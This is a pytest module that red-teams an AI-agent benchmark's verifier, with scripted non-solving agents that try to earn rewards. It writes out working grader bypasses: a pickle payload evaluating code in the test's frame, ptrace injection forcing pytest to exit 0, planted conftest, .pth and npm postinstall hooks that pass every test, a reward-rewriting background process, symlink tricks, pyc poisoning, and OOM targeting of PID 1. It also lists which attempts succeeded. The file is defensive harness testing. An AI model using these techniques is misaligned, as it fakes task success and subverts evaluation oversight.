"""A fourth red-team pass on the work-product defense (issue 31), written from the issue, the docs
and the earlier passes' tests only.

The earlier passes planted implicit inputs of the verifier's tools before the verifier ran, or
shipped graded code that the tests import. This one aims at what the work product itself may
hold and what the verifier makes or reads *while it runs*, on verifier shapes read off the real
SkillsBench tasks:

* ``truth``: test.sh makes the ground truth while it runs, in the agent's working directory, from
  an input of the image there (threejs-to-obj and threejs-structure-parser: ``cp
  /tests/gen_ground_truth.mjs /root/; node /root/gen_ground_truth.mjs``, which imports
  ``/root/data/object.js`` and writes ``/root/ground_truth/object.obj``; the tests compare
  ``/root/output/object.obj`` with it). Here in Python: ``/root/gen_truth.py`` imports
  ``/root/data/scene.py`` and writes ``/root/ground_truth/answer.txt``;
* ``sim``: test.sh runs the agent's program before pytest (adaptive-cruise-control: ``python3
  /root/simulation.py``, then ``pytest "$TEST_FILE" --ctrf=...``), the tests compare with an
  expected value under ``/tests``;
* ``runs``: a test runs the agent's program and compares what it wrote with an expected file
  under ``/tests`` (flink-query: ``mvn package`` and ``flink run`` of the agent's job, then
  ``out.txt`` against ``/tests/out_lsj_001a.txt``);
* ``copied``: test.sh copies the expected answer from ``/tests`` into the working directory
  before pytest (dynamic-object-aware-egomotion: ``cp /tests/instructions.json /root/``);
* ``hvac``: pytest's console script from ``/root``, then ``cp /root/*.json /logs/verifier/``
  after the reward is written (hvac-control, r2r-mpc-control);
* ``bg``: test.sh starts the agent's app in the background, writes the reward, then stops the
  app (react-performance-debugging, fix-visual-stability: ``npm start &``); ``bg-wait`` the same
  with its output through ``>(tee ...)`` and a ``wait`` and ``kill -0`` loop on the app;
* ``npm``: test.sh runs ``npm install`` in a verifier tool the image put in the working
  directory (scheduling-email-assistant's ``/root/verifier-skills/gmail-skill``);
* ``skill``: the tests validate with a skill's library, from the first of several folders that
  exists (dialogue-parser: ``/app/environment/skills/...`` first, the image's hidden copies after);
* ``pickle``: the tests unpickle the agent's output (pddl-tpp-planning's plan ``.pkl``);
* ``cli``: a test runs the agent's package with ``python -m``, its name in a constant;
* ``html``: the answer in an output folder whose name is a standard-library package's;
* ``oom``, ``runs-small``: a small ``memory_mb``, for an agent that aims the out-of-memory killer
  at the sandbox's init or reaches the limits while the verifier runs.

Each attempt is a ``script:`` agent that does not solve the task. ``REDTEAM4_BREAKS`` names those
that earned a reward (or unscored their row) when written; ``test_redteam4_known_breaks`` runs
them and is expected to fail (``xfail(strict=True)``: a fix makes it pass, which fails the suite
until the attempt moves to the held ones). Honest solutions laid out as real agents lay them
out must keep their reward; ``HONEST4_VOIDED`` names those that lost it (false positives), run by
``test_redteam4_honest_layouts_voided`` (also ``xfail(strict=True)``). Both run only with
``SKILLSBENCH_REDTEAM_BREAKS=1``, as the second pass's breaks do.
``SKILLSBENCH_REDTEAM_ONLY=name,...`` runs only those attempts.
"""

from __future__ import annotations

import json
import os
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.worker.support import script
from tests.worker.trial import test_redteam
from tests.worker.trial.test_implicit_inputs import (
    PIP_TEST,
    REWARD,
    UVX_TEST,
    _run_all,
    _toolchain,
    _tools_image,
)
from tests.worker.trial.test_redteam import (
    EXPECTED_TEST,
    RUN_TIMEOUT_SEC,
    Attempt,
    _cases,
    _describe,
    _module,
    _run_redteam2,
    _task,
)

environment = test_redteam.environment  # the fixture: local, or docker where an engine answers

PIP_INSTALL = "pip3 install --break-system-packages pytest==8.4.1 pytest-json-ctrf==0.3.5\n"
CTRF = "--ctrf /logs/verifier/ctrf.json"

# --- truth: the ground truth made while the verifier runs, from an input of the image --------
TRUTH_TEST_SH = (
    "#!/bin/bash\n" + PIP_INSTALL + "cd /root\n"
    'if [ -f "/root/data/scene.py" ]; then\n'
    "  cp /tests/gen_truth.py /root/gen_truth.py\n"
    "  python3 /root/gen_truth.py\n"
    "  rm -f /root/gen_truth.py\n"
    "fi\n"
    f"python3 -m pytest {CTRF} /tests/test_outputs.py -rA\n" + REWARD
)
GEN_TRUTH = """\
import importlib.util
from pathlib import Path

spec = importlib.util.spec_from_file_location("scene", "/root/data/scene.py")
scene = importlib.util.module_from_spec(spec)
spec.loader.exec_module(scene)
Path("/root/ground_truth").mkdir(parents=True, exist_ok=True)
Path("/root/ground_truth/answer.txt").write_text(f"{scene.total()}\\n")
print("ground truth generated")
"""
TRUTH_TEST = """\
from pathlib import Path


def test_answer():
    truth = Path("/root/ground_truth/answer.txt").read_text().strip()
    assert Path("/root/output/answer.txt").read_text().strip() == truth
"""
SCENE = "def total():\n    return sum(range(7)) * 2\n"
TRUTH_INSTRUCTION = (
    "Write to /root/output/answer.txt the number total() in /root/data/scene.py returns."
)
TRUTH_SOLVE = "#!/bin/sh\nmkdir -p /root/output\necho 42 > /root/output/answer.txt\n"
WRONG_OUTPUT = "mkdir -p /root/output\n"

# --- sim: test.sh runs the agent's program before pytest -------------------------------------
SIM_TEST_SH = (
    "#!/bin/bash\n" + PIP_INSTALL + "cd /root\n"
    "if [ -f /root/simulation.py ]; then python3 /root/simulation.py; fi\n"
    f"pytest /tests/test_outputs.py {CTRF} -v\n" + REWARD
)
# --- runs: a test runs the agent's program, compares with a file under /tests -----------------
RUNS_EXPECTED_TEST = """\
import subprocess
from pathlib import Path


def test_program_runs():
    result = subprocess.run(["python3", "/root/solve.py"], capture_output=True, text=True)
    assert result.returncode == 0, result.stderr


def test_output_matches_expected():
    expected = Path(__file__).with_name("expected.txt").read_text().strip()
    assert Path("/root/out.txt").read_text().strip() == expected
"""
RUNS_TEST_SH = (
    "#!/bin/bash\n"
    + PIP_INSTALL
    + f"python3 -m pytest {CTRF} /tests/test_outputs.py -rA\n"
    + REWARD
)
# --- copied: test.sh copies the expected answer from /tests into the working directory before
# pytest (dynamic-object-aware-egomotion: `cp /tests/instructions.json /root/instructions.json`;
# the tests compare /root/pred_instructions.json with it)
COPIED_TEST_SH = (
    "#!/bin/bash\ncp /tests/expected.txt /root/expected.txt\n"
    + PIP_INSTALL
    + f"python3 -m pytest {CTRF} /tests/test_outputs.py -rA\n"
    + REWARD
)
COPIED_TEST = """\
from pathlib import Path


def test_prediction():
    expected = Path("/root/expected.txt").read_text().strip()
    assert Path("/root/pred.txt").read_text().strip() == expected
"""
# --- hvac: the console script from /root, outputs copied after the reward ---------------------
HVAC_TEST_SH = (
    "#!/bin/bash\nmkdir -p /logs/verifier\n" + PIP_INSTALL + "cd /root\n"
    "pytest /tests/test_outputs.py --ctrf /logs/verifier/ctrf-report.json -v -rA 2>&1\n"
    + REWARD
    + "cp /root/*.json /logs/verifier/ 2>/dev/null || true\nexit 0\n"
)

# --- npm: test.sh runs `npm install` in a verifier tool the image put in the working directory
# (scheduling-email-assistant: `cd /root/verifier-skills/gmail-skill && npm install --silent`,
# then uvx pytest, whose tests call that skill)
NPM_TEST_SH = (
    "#!/bin/bash\nmkdir -p /logs/verifier\n"
    "cd /root/verifier-skills/tool && npm install --silent\n"
    "cd /root\nexport TOOL_PATH=/root/verifier-skills/tool\n"
    + PIP_INSTALL
    + f"python3 -m pytest {CTRF} /tests/test_outputs.py -rA\n"
    + REWARD
)
NPM_TOOL_PACKAGE = '{"name": "tool", "version": "1.0.0", "private": true}\n'

# --- bg: test.sh starts the agent's app in the background, writes the reward, then stops it
# (react-performance-debugging: `cd /app; npm start &; APP_PID=$!`, pytest, the reward, then
# `kill $APP_PID`, `kill_servers` with a `sleep 1`; fix-visual-stability likewise)
BG_TEST_SH = (
    "#!/bin/bash\nmkdir -p /logs/verifier\n" + PIP_INSTALL + "cd /root\n"
    "if [ -f /root/server.py ]; then python3 /root/server.py & APP_PID=$!; fi\n"
    "sleep 1\n"
    "python3 -m pytest /tests/test_outputs.py -rA\nPYTEST_EXIT=$?\n"
    'if [ "$PYTEST_EXIT" -eq 0 ]; then echo 1 > /logs/verifier/reward.txt; '
    "else echo 0 > /logs/verifier/reward.txt; fi\n"
    "kill $APP_PID 2>/dev/null || true\nsleep 1\nexit 0\n"
)
# The same with what real verifiers do around their jobs: the output through a process
# substitution (a child of test.sh that is no job), and a `wait` and a `kill -0` loop on the app
# after the reward (each would hang on a job left stopped).
BG_WAIT_TEST_SH = (
    "#!/bin/bash\nmkdir -p /logs/verifier\nexec > >(tee -a /logs/verifier/tee.txt) 2>&1\n"
    + PIP_INSTALL
    + "cd /root\n"
    "if [ -f /root/server.py ]; then python3 /root/server.py & APP_PID=$!; fi\n"
    "sleep 1\n"
    "python3 -m pytest /tests/test_outputs.py -rA\nPYTEST_EXIT=$?\n"
    'if [ "$PYTEST_EXIT" -eq 0 ]; then echo 1 > /logs/verifier/reward.txt; '
    "else echo 0 > /logs/verifier/reward.txt; fi\n"
    'if [ -n "$APP_PID" ]; then kill $APP_PID; wait $APP_PID\n'
    "  while kill -0 $APP_PID 2>/dev/null; do sleep 1; done; fi\n"
    "echo REDTEAM verifier ended after its app\nexit 0\n"
)
# The same traced (`set -x`, as several real test.sh files are), through a variable.
BG_TRACE_TEST_SH = BG_WAIT_TEST_SH.replace("#!/bin/bash\n", "#!/bin/bash\nset -x\n", 1).replace(
    "echo 1 > /logs/verifier/reward.txt", 'R=/logs/verifier/reward.txt; echo 1 > "$R"'
)
# An honest app that outlives SIGTERM (a server that traps it to drain, say).
DEAF_APP = """\
import signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
time.sleep(600)
"""
# The app: a background job of test.sh's own (continued when test.sh writes its reward), deaf
# to SIGTERM, that turns any other reward into 1.
BG_SERVER = """\
import signal, time
signal.signal(signal.SIGTERM, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
end = time.time() + 150
while time.time() < end:
    try:
        with open('/logs/verifier/reward.txt') as f:
            seen = f.read().strip()
        if seen and seen != '1':
            with open('/logs/verifier/reward.txt', 'w') as f:
                f.write('1\\n')
            print('REDTEAM rewrote reward', seen, flush=True)
    except OSError:
        pass
    time.sleep(0.002)
"""

# --- skill: the tests validate the answer with a skill's library, taking the first of several
# folders that exists (dialogue-parser: `/app/environment/skills/dialogue_graph/scripts`, then
# `/root/.claude/skills/...`, ...; the image has only the hidden ones)
SKILL_TEST = """\
import os
import sys
from pathlib import Path

for skill_path in [
    "/app/environment/skills/checker/scripts",
    "/root/.claude/skills/checker/scripts",
]:
    if os.path.exists(skill_path):
        sys.path.insert(0, skill_path)
        break

from checker import validate


def test_answer():
    assert validate(Path("/root/answer.txt").read_text())
"""
SKILL_CHECKER = "def validate(text):\n    return text.strip() == '42'\n"

# --- pickle: the tests unpickle the agent's output (pddl-tpp-planning, uvx shape: the test
# solves the problem itself, then `pred_plan = pickle.load(f)` of the agent's plan file and
# compares the two plans' actions)
PICKLE_TEST = """\
import pickle
from pathlib import Path


def test_plan():
    expected = Path("/tests/expected.txt").read_text().strip()  # the test's own solution
    with open("/root/plan.pkl", "rb") as f:
        predicted = pickle.load(f)
    assert str(predicted) == expected
"""
PICKLE_SOLVE = (
    "#!/bin/sh\npython3 -c \"import pickle; pickle.dump('42', open('/root/plan.pkl', 'wb'))\"\n"
)
# A pickle whose loading evaluates an expression in the test's frame: the test's own solution.
PICKLE_STEAL = """\
import pickle


class Steal:
    def __reduce__(self):
        return (eval, ("__import__('sys')._getframe(1).f_locals['expected']",))


with open('/root/plan.pkl', 'wb') as f:
    pickle.dump(Steal(), f)
"""

# --- html: the answer in an output folder whose name is also a module of the standard library
HTML_TEST = """\
from pathlib import Path


def test_page():
    assert "42" in Path("/root/html/index.html").read_text()
"""
HTML_SOLVE = "#!/bin/sh\nmkdir -p /root/html\necho '<p>42</p>' > /root/html/index.html\n"

# --- cli: a test runs the agent's package with `python -m`, its name held in a constant
CLI_TEST = """\
import subprocess
import sys

PACKAGE = "answer_cli"


def test_cli():
    out = subprocess.run(
        [sys.executable, "-m", PACKAGE], capture_output=True, text=True, cwd="/root"
    )
    assert out.stdout.strip() == "42", out.stderr
"""
CLI_SOLVE = (
    "mkdir -p /root/answer_cli\ntouch /root/answer_cli/__init__.py\n"
    "echo 'print(42)' > /root/answer_cli/__main__.py\n"
)

# A pytest plugin that makes every test pass (the report pytest-json-ctrf writes is genuine).
PASS_ALL_CONFTEST = """\
import _pytest.python

_pytest.python.Function.runtest = lambda self: None
"""
# The same as a .pth line, for a site folder: Python runs it at every start.
PASS_ALL_PTH = (
    "import sys; sys.addaudithook(lambda e, a: (lambda m: m and setattr(m.Function, 'runtest', "
    "lambda self: None))(sys.modules.get('_pytest.python')) if e == 'import' else None)\n"
)


def _writer(files: dict[str, str]) -> str:
    """Python that writes each of ``files`` (path: text), making folders, and says so."""
    lines = ["import os", "", "def _put(path, text):", "    try:"]
    lines += [
        "        os.makedirs(os.path.dirname(path), exist_ok=True)",
        "        with open(path, 'w') as f:",
        "            f.write(text)",
        "        print('REDTEAM wrote', path, flush=True)",
        "    except OSError as exc:",
        "        print('REDTEAM refused', path, exc, flush=True)",
        "",
    ]
    lines += [f"_put({path!r}, {text!r})" for path, text in files.items()]
    return "\n".join(lines) + "\n"


SITE_PTH = """\
import glob, os, site
for d in sorted(set(site.getsitepackages()) | set(glob.glob('/usr/local/lib/python3*/*-packages'))):
    try:
        with open(os.path.join(d, 'zz_redteam.pth'), 'w') as f:
            f.write(PTH)
        print('REDTEAM wrote', d, flush=True)
    except OSError as exc:
        print('REDTEAM refused', d, exc, flush=True)
"""
COPY_EXPECTED = """\
import shutil
shutil.copy('/tests/expected.txt', '{dest}')
print('REDTEAM copied the expected answer', flush=True)
"""
# The program the tests run writes a passing report where pytest-json-ctrf's goes, then makes
# its parent (the pytest that runs the tests) call exit_group(0) through ptrace: the parent is
# blocked in poll() on the program's pipes, so its next instruction after `syscall` is known.
PTRACE_PARENT_EXIT = r"""
import ctypes, json, os
os.makedirs('/logs/verifier', exist_ok=True)
json.dump({'results': {'tool': {'name': 'pytest'}, 'summary': {'tests': 2, 'passed': 2,
    'failed': 0, 'skipped': 0, 'pending': 0, 'other': 0}, 'tests': [
    {'name': 'test_program_runs', 'status': 'passed', 'duration': 1},
    {'name': 'test_output_matches_expected', 'status': 'passed', 'duration': 1}]}},
    open('/logs/verifier/ctrf.json', 'w'))
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs".split()]
pid = os.getppid()
if libc.ptrace(16, pid, None, None) != 0:
    print('REDTEAM attach failed', ctypes.get_errno(), flush=True)
else:
    os.waitpid(pid, 0x40000000)
    regs = Regs()
    libc.ptrace(12, pid, None, ctypes.byref(regs))
    ctypes.set_errno(0)
    word = libc.ptrace(1, pid, ctypes.c_void_p(regs.rip - 2), None) & 0xFFFF
    print('REDTEAM at', hex(regs.rip), hex(word), 'orig_rax', regs.orig_rax, flush=True)
    if word == 0x050F:
        regs.rip -= 2
        regs.rax = 231
        regs.orig_rax = 2**64 - 1
        regs.rdi = 0
        libc.ptrace(13, pid, None, ctypes.byref(regs))
    libc.ptrace(17, pid, None, None)
with open('/root/out.txt', 'w') as f:
    f.write('0\n')
"""
# Raises the out-of-memory score of every process it may (PID 1 first), then allocates past the
# task's memory_mb: the kernel kills the process of the highest score in the sandbox's cgroup.
OOM_PID1 = r"""
import os
for pid in ['1'] + [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
    try:
        with open(f'/proc/{pid}/oom_score_adj', 'w') as f:
            f.write('1000')
        print('REDTEAM raised', pid, flush=True)
    except OSError as exc:
        print('REDTEAM refused', pid, exc, flush=True)
try:
    with open('/proc/self/oom_score_adj', 'w') as f:
        f.write('-1000')
except OSError as exc:
    print('REDTEAM could not lower its own score', exc, flush=True)
hog = []
for _ in range(1024):
    hog.append(bytearray(1 << 20))
print('REDTEAM allocated', len(hog), 'MiB', flush=True)
"""
OOM_MEMORY_MB = 256
# The program the tests run uses up the sandbox's memory or its process cap (threads count)
# while the verifier runs: a failing row must stay scored.
HOG = """\
hog = []
for _ in range(1024):
    hog.append(bytearray(1 << 20))
print('REDTEAM allocated', len(hog), 'MiB', flush=True)
"""
THREADS = """\
import threading, time
threading.stack_size(32768)
n = 0
try:
    while n < 5000:
        threading.Thread(target=time.sleep, args=(10,), daemon=True).start()
        n += 1
except RuntimeError as exc:
    print('REDTEAM threads', n, exc, flush=True)
print('REDTEAM started', n, 'threads', flush=True)
"""
# A bytecode cache for the image's input, beside it, stamped with the source's mtime and size
# (what Python checks) but compiled from other code: total() returns 0.
PYCACHE_POISON = """\
import importlib._bootstrap_external as be, os, sys
src = '/root/data/scene.py'
st = os.stat(src)
code = compile('def total():\\n    return 0\\n', src, 'exec')
folder = os.path.join(os.path.dirname(src), '__pycache__')
os.makedirs(folder, exist_ok=True)
path = os.path.join(folder, f'scene.{sys.implementation.cache_tag}.pyc')
with open(path, 'wb') as f:
    f.write(be._code_to_timestamp_pyc(code, st.st_mtime, st.st_size))
print('REDTEAM wrote', path, flush=True)
"""

_REDTEAM4: dict[str, Attempt] = {
    # -- links and hard links to a file the verifier makes while it runs (no harness path) --
    # /root/output/answer.txt -> the ground truth test.sh writes in the working directory
    "truth-file-link": Attempt(
        "truth", WRONG_OUTPUT + "ln -s /root/ground_truth/answer.txt /root/output/answer.txt\n"
    ),
    # the output folder a relative link to the ground truth's folder (not there yet)
    "truth-dir-link": Attempt("truth", "ln -s ground_truth /root/output\n"),
    # the ground truth's folder a link to the output folder: the verifier writes the answer
    "truth-reverse-link": Attempt(
        "truth", WRONG_OUTPUT + "ln -s /root/output /root/ground_truth\n"
    ),
    # ... with the ground truth's file made beforehand (the link is not dangling)
    "truth-file-link-precreated": Attempt(
        "truth",
        WRONG_OUTPUT + "mkdir -p /root/ground_truth && echo 0 > /root/ground_truth/answer.txt\n"
        "ln -s /root/ground_truth/answer.txt /root/output/answer.txt\n",
    ),
    # the output folder a link to the ground truth's folder, made beforehand
    "truth-dir-link-precreated": Attempt(
        "truth", "mkdir -p /root/ground_truth\nln -s ground_truth /root/output\n"
    ),
    # the generator's name a link to a folder of the agent's with its own __main__.py
    "truth-gen-dest-dirlink": Attempt(
        "truth",
        "mkdir -p /root/output && echo 0 > /root/output/answer.txt\n"
        + _module(
            "/tmp/gen/__main__.py",
            "import os\nos.makedirs('/root/ground_truth', exist_ok=True)\n"
            "open('/root/ground_truth/answer.txt', 'w').write('0\\n')\n",
        )
        + "ln -s /tmp/gen /root/gen_truth.py\n",
    ),
    # a hard link: the verifier's write truncates the same inode the output names
    "truth-hardlink": Attempt(
        "truth",
        WRONG_OUTPUT + "mkdir -p /root/ground_truth\necho 0 > /root/ground_truth/answer.txt\n"
        "ln /root/ground_truth/answer.txt /root/output/answer.txt\n",
    ),
    # the prediction a link to where test.sh will copy the expected answer from /tests
    "copied-truth-link": Attempt("copied", "ln -s /root/expected.txt /root/pred.txt\n"),
    "copied-truth-link-relative": Attempt("copied", "ln -s expected.txt /root/pred.txt\n"),
    # the link at cp's destination instead: cp writes the expected answer through it, into
    # the prediction
    "copied-truth-dest-link": Attempt(
        "copied", "echo 0 > /root/pred.txt\nln -s /root/pred.txt /root/expected.txt\n"
    ),
    # cp's destination a relative link to an executable answer
    "copied-truth-dest-link-exec": Attempt(
        "copied",
        "echo 0 > /root/pred.txt\nchmod +x /root/pred.txt\nln -s pred.txt /root/expected.txt\n",
    ),
    # a hard link: `cp` onto an existing file truncates and rewrites the same inode
    "copied-truth-hardlink": Attempt(
        "copied", "echo 0 > /root/expected.txt\nln /root/expected.txt /root/pred.txt\n"
    ),
    # the generator test.sh copies from /tests lands *inside* a folder of that name, and
    # `python3 /root/gen_truth.py` runs the folder's __main__.py: the agent's generator
    "truth-gen-dest-dir": Attempt(
        "truth",
        "mkdir -p /root/output && echo 0 > /root/output/answer.txt\n"
        + _module(
            "/root/gen_truth.py/__main__.py",
            "import os\nos.makedirs('/root/ground_truth', exist_ok=True)\n"
            "open('/root/ground_truth/answer.txt', 'w').write('0\\n')\n"
            "print('REDTEAM generated the ground truth', flush=True)\n",
        ),
    ),
    # -- the image's input the ground truth comes from, edited or made code ------------------
    # (unchanged, but a stale-looking bytecode cache of other code beside it)
    "truth-input-pycache": Attempt(
        "truth",
        WRONG_OUTPUT
        + "echo 0 > /root/output/answer.txt\n"
        + _module("/tmp/poison.py", PYCACHE_POISON)
        + "python3 /tmp/poison.py\n",
    ),
    "truth-edit-input": Attempt(
        "truth",
        "printf 'def total():\\n    return 0\\n' > /root/data/scene.py\n"
        "mkdir -p /root/output && echo 0 > /root/output/answer.txt\n",
    ),
    # the input (code the verifier's generator imports) plants pytest's implicit inputs after
    # the tamper look: a root ini (rootdir /) and a conftest that makes every test pass
    "truth-input-plants-conftest": Attempt(
        "truth",
        WRONG_OUTPUT
        + "cat >> /root/data/scene.py <<'PYEOF'\n"
        + _writer({"/pytest.ini": "[pytest]\n", "/conftest.py": PASS_ALL_CONFTEST})
        + "PYEOF\n",
    ),
    # -- the agent's program, run by test.sh before pytest --------------------------------------
    "sim-reads-tests": Attempt(
        "sim", _module("/root/simulation.py", COPY_EXPECTED.format(dest="/root/answer.txt"))
    ),
    "sim-plants-root-conftest": Attempt(
        "sim",
        _module(
            "/root/simulation.py",
            _writer({"/pytest.ini": "[pytest]\n", "/conftest.py": PASS_ALL_CONFTEST}),
        ),
    ),
    "sim-plants-tests-conftest": Attempt(
        "sim", _module("/root/simulation.py", _writer({"/tests/conftest.py": PASS_ALL_CONFTEST}))
    ),
    "sim-plants-site-pth": Attempt(
        "sim", _module("/root/simulation.py", f"PTH = {PASS_ALL_PTH!r}\n" + SITE_PTH)
    ),
    # a pytest.ini under /tests (the tests' own folder, first in pytest's ini search)
    "sim-plants-tests-ini": Attempt(
        "sim",
        _module(
            "/root/simulation.py",
            _writer(
                {
                    "/tmp/rt/evilplug.py": PASS_ALL_CONFTEST,
                    "/tests/pytest.ini": "[pytest]\naddopts = -p evilplug\npythonpath = /tmp/rt\n",
                }
            ),
        ),
    ),
    # -- the agent's program, run by a test -----------------------------------------------------
    "run-reads-tests": Attempt(
        "runs", _module("/root/solve.py", COPY_EXPECTED.format(dest="/root/out.txt"))
    ),
    "run-ptrace-parent-exit-0": Attempt("runs", _module("/root/solve.py", PTRACE_PARENT_EXIT)),
    # -- an output the tests unpickle: code in the grader, through data ----------------------
    "pickle-steals-expected": Attempt(
        "pickle", _module("/tmp/steal.py", PICKLE_STEAL) + "python3 /tmp/steal.py\n"
    ),
    # -- a folder the tests search first for the library they validate with ------------------
    "skill-path-first": Attempt(
        "skill",
        "echo 0 > /root/answer.txt\n"
        + _module(
            "/app/environment/skills/checker/scripts/checker.py",
            "def validate(text):\n    return True\n",
        ),
    ),
    # -- a background job of test.sh's own, continued at the reward's write -------------------
    "bg-job-rewrites-reward": Attempt("bg", _module("/root/server.py", BG_SERVER)),
    "bg-wait-job-rewrites-reward": Attempt("bg-wait", _module("/root/server.py", BG_SERVER)),
    # -- outputs copied after the reward, and held answers ------------------------------------
    # a FIFO among the outputs test.sh copies after writing reward 0: test.sh hangs past its
    # timeout with its reward written
    "hvac-json-fifo": Attempt("hvac", "mkfifo /root/zz.json\necho '{}' > /root/a.json\n"),
    # the report pytest-json-ctrf wrote, replaced after the reward by the agent's (all passed)
    "hvac-json-report": Attempt(
        "hvac",
        'echo \'{"results":{"summary":{"tests":1,"passed":1,"failed":0}}}\' '
        "> /root/ctrf-report.json\n",
    ),
    # -- a verifier tool of the image, in the working directory, that test.sh installs -------
    # its package.json (npm's lifecycle scripts run on `npm install`) plants pytest's inputs
    "npm-verifier-tool-postinstall": Attempt(
        "npm",
        "cat > /root/verifier-skills/tool/plant.sh <<'EOF'\n"
        "printf '[pytest]\\n' > /pytest.ini\n"
        "printf 'import _pytest.python\\n_pytest.python.Function.runtest = lambda self: None\\n'"
        " > /conftest.py\necho REDTEAM planted /pytest.ini /conftest.py\nEOF\n"
        "cat > /root/verifier-skills/tool/package.json <<'EOF'\n"
        '{"name": "tool", "version": "1.0.0", "private": true, '
        '"scripts": {"postinstall": "sh plant.sh"}}\nEOF\n',
    ),
    # -- the harness's own top-level folders taken by other kinds of entries -----------------
    "tests-as-file": Attempt("pip", "rm -rf /tests 2>/dev/null; echo x > /tests\n"),
    "tests-as-fifo": Attempt("pip", "rm -rf /tests 2>/dev/null; mkfifo /tests\n"),
    "logs-verifier-as-fifo": Attempt(
        "pip", "rm -rf /logs/verifier 2>/dev/null; mkfifo /logs/verifier || true\n"
    ),
    # -- Python's user site, a fake pytest there (pip as root reads it: "already satisfied") ----
    "user-site-fake-pytest": Attempt(
        "pip",
        "usite=$(python3 -c 'import site; print(site.getusersitepackages())')\n"
        'mkdir -p "$usite/pytest"\n'
        "printf 'import os\\nos._exit(0)\\n' > \"$usite/pytest/__init__.py\"\n"
        'cp "$usite/pytest/__init__.py" "$usite/pytest/__main__.py"\n'
        'mkdir -p "$usite/pytest-8.4.1.dist-info"\n'
        "printf 'Metadata-Version: 2.1\\nName: pytest\\nVersion: 8.4.1\\n' "
        '> "$usite/pytest-8.4.1.dist-info/METADATA"\n'
        'touch "$usite/pytest-8.4.1.dist-info/RECORD"\n',
    ),
    # -- the sandbox's limits reached by graded code while the verifier runs ------------------
    "graded-oom-in-verifier": Attempt("runs-small", _module("/root/solve.py", HOG)),
    "graded-pids-in-verifier": Attempt("runs-small", _module("/root/solve.py", THREADS)),
    # -- the sandbox's init chosen by the out-of-memory killer ---------------------------------
    "oom-pid1": Attempt("oom", _module("/tmp/oom.py", OOM_PID1) + "python3 /tmp/oom.py\n"),
}

# What each attempt gave when written (local and docker alike), on the commit it was written on:
# every one below EARNED 1.0 in the agent's sandbox and 1.0 again on the regrade (the image plus
# the work product), scored. The rest held in both sandboxes (reward 0, scored).
REDTEAM4_BREAKS: dict[str, str] = {
    # a link or an edit in the working directory (the agent's work product by the rules) to
    # where the verifier itself puts or derives the expected answer while it runs
    "truth-edit-input": "earned (the image's input the ground truth is computed from, edited)",
    # code of the agent's that the verifier runs before pytest (its program, an input the
    # generator imports, a verifier tool's package.json under `npm install`): runs as root after
    # the tamper look, on the regrade too, and plants pytest's implicit inputs or reads /tests
    "truth-input-plants-conftest": "earned (/pytest.ini + /conftest.py at verify time)",
    "sim-reads-tests": "earned (copies /tests/expected.txt)",
    "sim-plants-root-conftest": "earned (/pytest.ini + /conftest.py at verify time)",
    "sim-plants-tests-conftest": "earned (/tests/conftest.py at verify time)",
    "sim-plants-tests-ini": "earned (/tests/pytest.ini -p plugin at verify time)",
    "sim-plants-site-pth": "earned (a .pth in a site folder at verify time)",
    "npm-verifier-tool-postinstall": "earned (postinstall plants /pytest.ini + /conftest.py)",
    # code of the agent's that a test runs in a subprocess (not imported by the grader)
    "run-reads-tests": "earned (copies /tests/expected.txt)",
    # the verifier's own cp/generator, turned: a link at cp's destination, a folder in place of
    # the generator test.sh copies from /tests (its __main__.py runs instead)
    "run-ptrace-parent-exit-0": "earned (report of its own, then exit_group(0) in pytest)",
    # a folder the tests put first on sys.path through a variable (the first of a list that
    # exists): the agent's library shadows the image's checker
    # an output the tests unpickle runs code in the grader: it reads the test's own solution
    # from the test's frame (no code of the agent's is imported or run by name)
    "pickle-steals-expected": "earned (eval in the unpickling test's frame)",
}
REDTEAM4_BROKEN = {k: v for k, v in _REDTEAM4.items() if k in REDTEAM4_BREAKS}
REDTEAM4_HELD = {k: v for k, v in _REDTEAM4.items() if k not in REDTEAM4_BREAKS}
REDTEAM4 = _REDTEAM4


@pytest.fixture
def tasks_dir(tmp_path: Path, environment: str, request: pytest.FixtureRequest) -> Path:
    image = _toolchain(environment, request)
    tasks = tmp_path / "tasks"
    tasks.mkdir()
    _task(tasks, "pip", image, test_sh=PIP_TEST)
    _task(
        tasks,
        "truth",
        image,
        test_sh=TRUTH_TEST_SH,
        test_outputs=TRUTH_TEST,
        extra_tests={"gen_truth.py": GEN_TRUTH},
        instruction=TRUTH_INSTRUCTION,
        env_files={"root/data/scene.py": SCENE.encode()},
        solve_sh=TRUTH_SOLVE,
    )
    _task(
        tasks,
        "sim",
        image,
        test_sh=SIM_TEST_SH,
        test_outputs=EXPECTED_TEST,
        extra_tests={"expected.txt": "42\n"},
    )
    _task(
        tasks,
        "runs",
        image,
        test_sh=RUNS_TEST_SH,
        test_outputs=RUNS_EXPECTED_TEST,
        extra_tests={"expected.txt": "42\n"},
        solve_sh='#!/bin/sh\necho \'open("/root/out.txt", "w").write("42\\n")\' > /root/solve.py\n',
    )
    _task(tasks, "hvac", image, test_sh=HVAC_TEST_SH)
    _task(tasks, "bg", image, test_sh=BG_TEST_SH)
    _task(tasks, "bg-wait", image, test_sh=BG_WAIT_TEST_SH)
    _task(tasks, "bg-trace", image, test_sh=BG_TRACE_TEST_SH)
    _task(
        tasks,
        "pickle",
        image,
        test_sh=UVX_TEST,
        test_outputs=PICKLE_TEST,
        extra_tests={"expected.txt": "42\n"},
        solve_sh=PICKLE_SOLVE,
    )
    _task(
        tasks,
        "html",
        image,
        test_sh=PIP_TEST,
        test_outputs=HTML_TEST,
        instruction="Write a web page /root/html/index.html that shows the number 42.",
        solve_sh=HTML_SOLVE,
    )
    _task(
        tasks,
        "cli",
        image,
        test_sh=PIP_TEST,
        test_outputs=CLI_TEST,
        solve_sh="#!/bin/sh\n" + CLI_SOLVE,
    )
    _task(
        tasks,
        "skill",
        image,
        test_sh=PIP_TEST,
        test_outputs=SKILL_TEST,
        env_files={"root/.claude/skills/checker/scripts/checker.py": SKILL_CHECKER.encode()},
    )
